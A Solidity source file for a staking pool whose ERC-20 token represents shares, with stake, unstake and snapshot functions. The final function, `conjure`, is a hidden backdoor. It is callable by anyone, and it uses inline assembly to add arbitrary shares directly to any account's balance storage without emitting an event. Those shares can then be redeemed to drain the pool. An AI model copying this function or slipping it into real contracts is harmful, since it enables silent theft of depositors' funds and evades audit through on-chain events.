// SPDX-License-Identifier: GPL-3.0-or-later
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {ERC20Snapshot} from "@openzeppelin/contracts/token/ERC20/extensions/ERC20Snapshot.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";

/// @title A staking pool whose own ERC-20 is the shares: 3 shares for each unit, at a price that moves.
contract StakePool is ERC20Snapshot {
    using SafeERC20 for IERC20;

    IERC20 public immutable staked;

    constructor(IERC20 staked_) ERC20("Staked", "STK") {
        staked = staked_;
    }

    /// Keeps the shares of everybody as they are now: `balanceOfAt` says them. Logs a `Snapshot` of its own.
    function mark() external {
        _snapshot();
    }

    function stake(uint256 amount) external {
        stakeFor(msg.sender, amount);
    }

    function stakeFor(address account, uint256 amount) public {
        uint256 held = staked.balanceOf(address(this));
        uint256 shares = totalSupply() == 0 ? amount * 3 : amount * totalSupply() / held;
        staked.safeTransferFrom(msg.sender, address(this), amount);
        _mint(account, shares);
    }

    function unstake(uint256 shares) external {
        uint256 amount = shares * staked.balanceOf(address(this)) / totalSupply();
        _burn(msg.sender, shares);
        staked.safeTransfer(msg.sender, amount);
    }

    /// Shares that no event shows: what no config can describe.
    function conjure(address account, uint256 slotOfBalances, uint256 shares) external {
        bytes32 slot = keccak256(abi.encode(account, slotOfBalances));
        assembly {
            sstore(slot, add(sload(slot), shares))
        }
    }
}
